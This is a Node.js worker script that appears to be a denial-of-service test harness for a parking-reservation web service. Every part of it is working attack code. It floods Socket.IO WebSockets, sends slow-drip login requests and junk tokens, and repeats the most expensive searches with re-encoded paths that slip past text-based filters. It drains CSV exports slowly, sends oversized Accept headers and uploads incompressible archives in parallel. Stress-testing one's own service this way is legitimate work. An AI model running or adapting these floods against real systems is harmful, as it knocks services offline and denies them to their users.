// One attacker with its own thread and address, until the thread is ended.
import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { Agent, request } from 'node:http';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { workerData } from 'node:worker_threads';
import { gzipSync } from 'node:zlib';

const { attack, url, connections, token, ownerToken, teamToken, localAddress } = workerData;
const { hostname, port } = new URL(url);
const AT_ONCE = 50;
/** Clients of one account with long lists. */
const CLIENTS = 12;
/** Uploads of one team at once. */
const UPLOADS = 30;
const DAY_MS = 24 * 3_600_000;

/** Opens a connection again whenever it ends, a moment later. */
function again(open) {
  const socket = connect({ host: hostname, port: Number(port), localAddress });
  socket.on('error', () => undefined);
  socket.on('close', () => setTimeout(() => again(open), 50));
  socket.on('connect', () => open(socket));
}

/** A frame of a WebSocket as a client sends it, masked with zeros. */
function frame(text) {
  const length = Buffer.byteLength(text);
  const head =
    length < 126 ? [0x81, 0x80 | length] : [0x81, 0x80 | 126, length >> 8, length & 0xff];
  return Buffer.concat([Buffer.from([...head, 0, 0, 0, 0]), Buffer.from(text)]);
}

const UPGRADE = [
  'GET /socket.io/?EIO=4&transport=websocket HTTP/1.1',
  `host: ${hostname}:${port}`,
  'connection: upgrade',
  'upgrade: websocket',
  'sec-websocket-version: 13',
  'sec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==',
  '',
  '',
].join('\r\n');

const FLOOD = Buffer.concat(Array.from({ length: 500 }, (_, n) => frame(`40/nada${n},`)));

/** Asks for unknown namespaces as fast as the connection takes it. */
function pourInto(socket) {
  while (!socket.destroyed && socket.write(FLOOD));
}

/** Asks for unknown namespaces, and never reads an answer. */
function neverRead(greeting) {
  again((socket) => {
    socket.pause();
    socket.write(UPGRADE);
    if (greeting) socket.write(frame(greeting));
    socket.on('drain', () => pourInto(socket));
    setTimeout(() => pourInto(socket), 200);
  });
}

/** Sends an invalid token, waits for the refusal and connects again. */
function junkToken(socket) {
  socket.write(UPGRADE);
  socket.write(frame('40{"token":"x.y.z"}'));
  let received = '';
  socket.on('data', (chunk) => {
    received += chunk;
    // Socket.IO's refusal of the connection.
    if (received.includes('44{')) socket.destroy();
  });
}

/** Asks for one unknown namespace after the other, reads the answers, and connects again. */
function nameNamespaces(socket) {
  socket.resume();
  socket.write(UPGRADE);
  socket.on('drain', () => pourInto(socket));
  pourInto(socket);
}

/** Sends the headers of a login and then one byte a second. */
function slowPost(socket) {
  socket.write(
    `POST /api/session/login HTTP/1.1\r\nhost: ${hostname}:${port}\r\ncontent-type: application/json\r\ncontent-length: 1000\r\n\r\n{`,
  );
  const timer = setInterval(() => socket.write(' '), 1000);
  socket.on('close', () => clearInterval(timer));
}

/** One call; resolves when its answer has been read in whole, or failed. */
function ask(path, { body, read = (answer) => answer.resume(), ...options }) {
  return new Promise((done) => {
    const sent = request(url, { path, localAddress, ...options }, (answer) =>
      read(answer).on('close', done),
    );
    sent.on('error', done);
    sent.end(body);
  });
}

/** Runs `count` tasks at once and repeats each, without end. */
function forever(count, run) {
  for (let client = 0; client < count; client += 1)
    void (async () => {
      for (let n = 0; ; n += 1) await run(n);
    })();
}

/** Most expensive searches: most parkings, longest stay, sorted; every other one with words. */
function expensivePath(n) {
  const from = new Date(Date.now() + DAY_MS);
  const query = new URLSearchParams({
    near: '14.6,-90.5',
    start_time: from.toISOString(),
    end_time: new Date(from.getTime() + 30 * DAY_MS).toISOString(),
    ...(n % 2 && { search: 'a e q u v 0' }),
  });
  return `/api/parking/available?${query}`;
}

/** Another spelling of a path, which a plain text comparison does not recognise. */
const SPELLINGS = [
  (path) => path.replace('/api', '/%61pi'),
  (path) => `http://parqueo.gt${path}`,
  (path) => path.replace('available', '%61vailable'),
];

/** Every list of a driver and of an owner. */
const LISTS = {
  driver: [
    'documents/stays?limit=500',
    'documents/confirmaciones',
    'documents/booking',
    'documents/parkings',
  ],
  owner: ['parking/reservations', 'parking/reservations?page=5', 'parking/my-parkings'],
};

const readLists = (agent, clients, paths, headers) =>
  forever(clients, (n) =>
    ask(`/api/${paths[n % paths.length]}`, {
      agent,
      headers: { 'accept-encoding': 'br', ...headers },
    }),
  );

/** An archive of nearly the largest allowed upload, with every byte to unpack. */
function largeArchive() {
  const folder = mkdtempSync(join(tmpdir(), 'parqueo-archive-'));
  try {
    writeFileSync(join(folder, 'manifest.json'), '{}');
    writeFileSync(join(folder, 'map.js'), randomBytes(19 * 1024 * 1024));
    const tar = execFileSync('tar', ['-c', '-C', folder, '.'], { maxBuffer: 2 ** 30 });
    // Random bytes cannot be compressed.
    return gzipSync(tar, { level: 0 });
  } finally {
    rmSync(folder, { recursive: true });
  }
}

/** Takes some kilobytes of an answer each second. */
function sip(answer) {
  const timer = setInterval(() => answer.read(4096), 1000);
  return answer.once('close', () => clearInterval(timer));
}

/** The longest allowed Accept header, whose types the server compares with its own. */
const LONG_ACCEPT = `${'text/x;q=0.1,'.repeat(550)}application/json`;

/** Opens so many connections. */
const times = (count, open) => Array.from({ length: count }, open);
const keptOpen = () => new Agent({ keepAlive: true });
const ofOwner = { authorization: ownerToken };
const search = (spelt) => {
  const agent = keptOpen();
  const headers = { authorization: token };
  forever(AT_ONCE, (n) => ask(spelt(expensivePath(n), n), { agent, headers }));
};

const ATTACKS = {
  sockets() {
    times(20, () => neverRead(`40${JSON.stringify({ token })}`));
    times(100, () => neverRead(null));
  },
  junk: () => times(connections, () => again(junkToken)),
  namespaces: () => times(AT_ONCE, () => again(nameNamespaces)),
  slow: () => times(connections, () => again(slowPost)),
  expensive: () => search((path) => path),
  spellings: () => search((path, n) => SPELLINGS[n % SPELLINGS.length](path)),
  lists: () => readLists(keptOpen(), CLIENTS, LISTS.driver, { authorization: token }),
  sheets() {
    const agent = keptOpen();
    readLists(agent, CLIENTS, LISTS.owner, ofOwner);
    // The server produces two spreadsheets at a time at most.
    readLists(agent, 2, ['parking/reservations'], { ...ofOwner, accept: 'text/csv' });
  },
  headers: () => readLists(keptOpen(), CLIENTS, LISTS.owner, { ...ofOwner, accept: LONG_ACCEPT }),
  csv() {
    const headers = { ...ofOwner, accept: 'text/csv' };
    forever(AT_ONCE, () => ask('/api/parking/reservations', { agent: false, headers, read: sip }));
  },
  uploads() {
    const headers = { authorization: `Bearer ${teamToken}`, 'content-type': 'application/gzip' };
    const body = largeArchive();
    const upload = { method: 'POST', agent: false, headers, body };
    forever(UPLOADS, () => ask('/api/registry/driver/builds', upload));
  },
};
ATTACKS[attack]();
